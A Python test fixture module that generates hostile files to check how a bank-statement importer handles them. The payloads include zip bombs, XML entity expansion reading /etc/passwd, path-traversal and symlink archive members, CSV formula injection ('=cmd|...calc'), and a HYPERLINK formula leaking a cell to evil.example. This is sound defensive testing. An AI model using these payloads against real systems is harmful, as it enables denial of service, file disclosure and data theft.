"""Files that would break a careless reader, each beside a good one, with what a careful reader does."""

import io
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Literal

import xlsxwriter

from tests.packages.compound import compound_file

Outcome = Literal["refused", "imported", "either"]
Maker = Callable[[Path], None]  # writes one file at the path

HEADER = "交易卡号,交易时间,交易金额,交易余额,收付标志,交易对手账卡号,对手户名,摘要说明"
OWN = "9999990000000000019"


@dataclass(frozen=True, slots=True, kw_only=True)
class Hostile:
    """One bad file: its name, how to make it, whether it is refused as a whole, and what of its rows may count."""

    name: str
    file: str
    make: Maker
    outcome: Outcome
    accepted: int | None = None  # rows accepted from the file; None: not said
    rejected: int | None = None
    large: bool = False


def row(
    second: int,
    *,
    fen: int = 12_345,
    balance: int = 1_000_000,
    summary: str = "转账",
    time: str | None = None,
    amount: str | None = None,
) -> str:
    """One good data row unless a cell is replaced."""
    when = time if time is not None else f"2024-03-05 10:00:{second:02d}"
    money = amount if amount is not None else f"{fen / 100:.2f}"
    return f"{OWN},{when},{money},{balance / 100:.2f},出,99999900000000{second:05d},测试乙,{summary}"


def good_csv(rows: int = 3) -> bytes:
    """A small faultless statement."""
    lines = [HEADER, *(row(n + 1, fen=1_000 + n, balance=500_000 - 1_000 * (n + 1)) for n in range(rows))]
    return ("\r\n".join(lines) + "\r\n").encode("gb18030")


def companion() -> bytes:
    """The good file of another account that lies beside every bad one; 3 movements."""
    return good_csv().replace(OWN.encode(), b"9999990000000000027")


def write_case(case: Hostile, folder: Path) -> None:
    """The bad file and its companion, in one folder."""
    folder.mkdir(parents=True, exist_ok=True)
    case.make(folder / case.file)
    (folder / "good.csv").write_bytes(companion())


def _bytes(body: bytes) -> Maker:
    def make(path: Path) -> None:
        path.write_bytes(body)

    return make


def _csv(*rows: str, encoding: str = "gb18030") -> Maker:
    return _bytes(("\r\n".join([HEADER, *rows]) + "\r\n").encode(encoding))


def _zip(*members: tuple[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        for name, body in members:
            out.writestr(zipfile.ZipInfo(name, (2024, 4, 1, 9, 0, 0)), body, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def _xlsx(rows: int = 3, *, formulas: bool = False, columns: int = 0) -> bytes:
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True, "strings_to_formulas": False})
    sheet = book.add_worksheet("Sheet1")
    sheet.write_row(0, 0, HEADER.split(",") + [f"列{n}" for n in range(columns)])
    for n in range(rows):
        for place, cell in enumerate(row(n + 1, balance=500_000 - 12_345 * n).split(",")):
            if formulas and place == 2:
                sheet.write_formula(n + 1, place, "=100+23.45", None, "123.45")
            elif formulas and place == 7:
                sheet.write_formula(n + 1, place, '=HYPERLINK("http://evil.example/"&A2,"x")', None, "x")
            else:
                sheet.write_string(n + 1, place, cell)
    book.close()
    return buffer.getvalue()


def _rezip(body: bytes, change: Callable[[str, bytes], bytes], *extra: tuple[str, bytes]) -> bytes:
    """A workbook with members changed and added."""
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        members = [(name, change(name, archive.read(name))) for name in archive.namelist()]
    return _zip(*members, *extra)


def _broken_xml(body: bytes) -> bytes:
    return _rezip(body, lambda name, part: part[: len(part) // 2] if name.endswith("sheet1.xml") else part)


def _entities(body: bytes) -> bytes:
    """Nested entities in the shared strings, and one that would read a file."""
    layers = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 9))
    doctype = f'<!DOCTYPE sst [<!ENTITY l0 "lol"><!ENTITY file SYSTEM "file:///etc/passwd">{layers}]>'.encode()

    def change(name: str, part: bytes) -> bytes:
        if not name.endswith("sharedStrings.xml"):
            return part
        head, cut, rest = part.partition(b"?>")
        return head + cut + doctype + rest.replace("测试乙".encode(), b"&l8;&file;", 1)

    return _rezip(body, change)


def _zip_flagged(body: bytes) -> bytes:
    """An archive whose members say that they are encrypted."""
    out = bytearray(body)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = out.find(mark)
        while at >= 0:
            flags = struct.unpack_from("<H", out, at + offset)[0]
            struct.pack_into("<H", out, at + offset, flags | 1)
            at = out.find(mark, at + 4)
    return bytes(out)


def _bomb(megabytes: int) -> Maker:
    def make(path: Path) -> None:
        with (
            zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as out,
            out.open("bomb.csv", "w") as member,
        ):
            member.write((HEADER + "\r\n").encode("gb18030"))
            block = b"0" * 1_048_576
            for _ in range(megabytes):
                member.write(block)

    return make


def _sheet_bomb(megabytes: int) -> Maker:
    def make(path: Path) -> None:
        with zipfile.ZipFile(io.BytesIO(_xlsx())) as plain, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
            for name in plain.namelist():
                if not name.endswith("sheet1.xml"):
                    out.writestr(name, plain.read(name))
            with out.open("xl/worksheets/sheet1.xml", "w") as member:
                member.write(b'<?xml version="1.0"?><worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>')
                for _ in range(megabytes):
                    member.write(b"A" * 1_048_576)
                member.write(b"</t></is></c></row></sheetData></worksheet>")

    return make


def _nested_bomb(depth: int, width: int) -> bytes:
    body = _zip(("leaf.csv", b"0" * 10_000_000))
    for level in range(depth):
        body = _zip(*((f"{level}_{n}.zip", body) for n in range(width)))
    return body


def _deep(depth: int) -> bytes:
    body = good_csv()
    name = "deep.csv"
    for level in range(depth):
        body, name = _zip((name, body)), f"level{level}.zip"
    return body


def _sparse(size: int, head: bytes) -> Maker:
    def make(path: Path) -> None:
        with path.open("wb") as out:
            out.write(head)
            out.truncate(size)

    return make


def _lying_size() -> bytes:
    """A member whose header claims 10 bytes."""
    body = bytearray(_zip(("lie.csv", good_csv() * 50)))
    for mark, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        struct.pack_into("<I", body, body.find(mark) + offset, 10)
    return bytes(body)


def _symlink() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as out:
        info = zipfile.ZipInfo("link.csv", (2024, 4, 1, 9, 0, 0))
        info.create_system, info.external_attr = 3, 0o120777 << 16
        out.writestr(info, "/etc/passwd")
        out.writestr("inside.csv", good_csv())
    return buffer.getvalue()


def _mixed_encodings() -> bytes:
    lines = [HEADER.encode("gb18030")]
    for n in range(6):
        lines.append(row(n + 1, balance=500_000 - 12_345 * n).encode("utf-8" if n == 3 else "gb18030"))
    return b"\r\n".join(lines) + b"\r\n"


_CIPHER = compound_file(
    {"EncryptionInfo": b"\x04\x00\x04\x00" + b"\x40\0\0\0<encryption/>", "EncryptedPackage": b"\1" * 5000}
)
_MANY = ",".join(f"c{n}" for n in range(1_000_000))
_HUGE = "9" * 16
_SPARSE_HEAD = good_csv()


def _cases() -> list[Hostile]:
    return [*_nothing(), *_disguised(), *_locked_and_torn(), *_archives(), *_active(), *_cells()]


def _nothing() -> list[Hostile]:
    return [
        Hostile(name="empty", file="empty.csv", make=_bytes(b""), outcome="refused"),
        Hostile(name="only a byte order mark", file="bom.csv", make=_bytes(b"\xef\xbb\xbf"), outcome="refused"),
        Hostile(name="only blank lines", file="blank.csv", make=_bytes(b"\r\n" * 50), outcome="refused"),
        Hostile(name="only a header", file="header.csv", make=_csv(), outcome="either", accepted=0, rejected=0),
        Hostile(name="an empty archive", file="empty.zip", make=_bytes(_zip()), outcome="refused"),
        Hostile(name="an empty workbook", file="empty.xlsx", make=_bytes(_xlsx(0)), outcome="either", accepted=0),
    ]


def _disguised() -> list[Hostile]:
    png = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20
    prose = "这是一份说明。\r\n请查收附件。\r\n" * 30
    html = "<html><table><tr><td>交易卡号</td></tr></table></html>"
    return [
        Hostile(name="a workbook called csv", file="book.csv", make=_bytes(_xlsx()), outcome="imported", accepted=3),
        Hostile(name="a csv called xlsx", file="text.xlsx", make=_bytes(good_csv()), outcome="imported", accepted=3),
        Hostile(name="a csv called xls", file="text.xls", make=_bytes(good_csv()), outcome="imported", accepted=3),
        Hostile(
            name="a zip called txt",
            file="a.txt",
            make=_bytes(_zip(("a.csv", good_csv()))),
            outcome="imported",
            accepted=3,
        ),
        Hostile(name="a picture called csv", file="picture.csv", make=_bytes(png), outcome="refused"),
        Hostile(name="prose called csv", file="prose.csv", make=_bytes(prose.encode("gb18030")), outcome="refused"),
        Hostile(name="a web page called xls", file="page.xls", make=_bytes(html.encode()), outcome="refused"),
        Hostile(
            name="a pdf",
            file="scan.pdf",
            make=_bytes(b"%PDF-1.4\n%\xe2\xe3\n1 0 obj\n<<>>\nendobj\n%%EOF"),
            outcome="refused",
        ),
    ]


def _locked_and_torn() -> list[Hostile]:
    book, archive = _xlsx(), _zip(("inside.csv", good_csv()))
    torn = bytearray(archive)
    torn[60] ^= 0xFF
    return [
        Hostile(name="a workbook under a password", file="locked.xlsx", make=_bytes(_CIPHER), outcome="refused"),
        Hostile(
            name="an archive under a password", file="locked.zip", make=_bytes(_zip_flagged(archive)), outcome="refused"
        ),
        Hostile(name="half a workbook", file="half.xlsx", make=_bytes(book[: len(book) // 2]), outcome="refused"),
        Hostile(name="a workbook with broken xml", file="xml.xlsx", make=_bytes(_broken_xml(book)), outcome="refused"),
        Hostile(name="half an archive", file="half.zip", make=_bytes(archive[: len(archive) // 2]), outcome="refused"),
        Hostile(name="an archive with a flipped byte", file="crc.zip", make=_bytes(bytes(torn)), outcome="refused"),
        Hostile(name="half an old workbook", file="half.xls", make=_bytes(_CIPHER[:1500]), outcome="refused"),
        Hostile(name="a member that lies about its size", file="lie.zip", make=_bytes(_lying_size()), outcome="either"),
    ]


def _archives() -> list[Hostile]:
    slips = [
        ("../../evil.csv", good_csv()),
        ("/tmp/evil.csv", good_csv()),
        ("C:\\evil.csv", good_csv()),
        ("ok.csv", good_csv()),
    ]
    crowd = _zip(*((f"{n}.csv", b"x") for n in range(12_000)))
    return [
        Hostile(name="2 GB of nothing", file="sparse.csv", make=_sparse(2**31, b""), outcome="refused", large=True),
        Hostile(
            name="2 GB after good rows",
            file="tail.csv",
            make=_sparse(2**31, _SPARSE_HEAD),
            outcome="either",
            large=True,
        ),
        Hostile(name="2 GB archive", file="sparse.zip", make=_sparse(2**31, b"PK\3\4"), outcome="refused", large=True),
        Hostile(name="a zip bomb", file="bomb.zip", make=_bomb(400), outcome="refused", large=True),
        Hostile(name="a workbook bomb", file="bomb.xlsx", make=_sheet_bomb(400), outcome="refused", large=True),
        Hostile(name="a nested bomb", file="nested.zip", make=_bytes(_nested_bomb(3, 6)), outcome="refused"),
        Hostile(name="sixty archives deep", file="deep.zip", make=_bytes(_deep(60)), outcome="refused"),
        Hostile(name="twelve thousand members", file="crowd.zip", make=_bytes(crowd), outcome="refused"),
        Hostile(name="members that climb out", file="slip.zip", make=_bytes(_zip(*slips)), outcome="either"),
        Hostile(name="a member that is a link", file="link.zip", make=_bytes(_symlink()), outcome="either"),
    ]


def _active() -> list[Hostile]:
    dde = [
        row(1, summary="=cmd|'/c calc'!A1"),
        row(2, summary="@SUM(1)"),
        row(3, summary="+1+cmd"),
        row(4, summary="-2+3"),
    ]
    macro = _rezip(_xlsx(), lambda _, part: part, ("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"macro" * 100))
    return [
        Hostile(name="formulas typed into texts", file="dde.csv", make=_csv(*dde), outcome="imported", accepted=4),
        Hostile(
            name="formula cells", file="formula.xlsx", make=_bytes(_xlsx(formulas=True)), outcome="imported", accepted=3
        ),
        Hostile(name="a macro", file="macro.xlsm", make=_bytes(macro), outcome="imported", accepted=3),
        Hostile(name="entities", file="entities.xlsx", make=_bytes(_entities(_xlsx())), outcome="either"),
        Hostile(
            name="an angry name", file="=cmd|calc'!A1 -rf.csv", make=_bytes(good_csv()), outcome="imported", accepted=3
        ),
    ]


def _cells() -> list[Hostile]:
    years = [
        row(1, time="0000-01-01 00:00:00"),
        row(2, time="9999-12-31 23:59:59"),
        row(3),
        row(4, time="0001-01-01 00:00:00"),
    ]
    limits = [
        row(1, amount="10000000000000.01"),
        row(2, amount=_HUGE + _HUGE),
        row(3, amount="1e400"),
        row(4, amount="NaN"),
        row(5),
    ]
    nul = [row(1), row(2, summary="转\0账"), row(3).replace("2024", "20\x0024"), row(4)]
    quote = [row(1), row(2, summary='"没有关上'), row(3), row(4)]
    long_cell = [row(1), row(2, summary="长" * 3_000_000), row(3)]
    ragged = [row(1), row(2) + ",多,余,的,列", row(3)]
    return [
        Hostile(
            name="a million columns", file="wide.csv", make=_bytes((_MANY + "\r\n" + _MANY).encode()), outcome="refused"
        ),
        Hostile(name="a wide workbook", file="wide.xlsx", make=_bytes(_xlsx(columns=16_000)), outcome="either"),
        Hostile(
            name="years 0 and 9999", file="years.csv", make=_csv(*years), outcome="imported", accepted=1, rejected=3
        ),
        Hostile(
            name="amounts beyond the limit",
            file="limits.csv",
            make=_csv(*limits),
            outcome="imported",
            accepted=1,
            rejected=4,
        ),
        Hostile(name="NUL bytes", file="nul.csv", make=_csv(*nul), outcome="imported"),
        Hostile(name="a quote never closed", file="quote.csv", make=_csv(*quote), outcome="either"),
        Hostile(name="a cell of nine megabytes", file="long.csv", make=_csv(*long_cell), outcome="either"),
        Hostile(name="a row with more cells", file="ragged.csv", make=_csv(*ragged), outcome="imported"),
        Hostile(name="two encodings", file="mixed.csv", make=_bytes(_mixed_encodings()), outcome="imported"),
        Hostile(
            name="old Mac line ends",
            file="mac.csv",
            make=_bytes(good_csv().replace(b"\r\n", b"\r")),
            outcome="imported",
            accepted=3,
        ),
    ]


CASES = tuple(_cases())
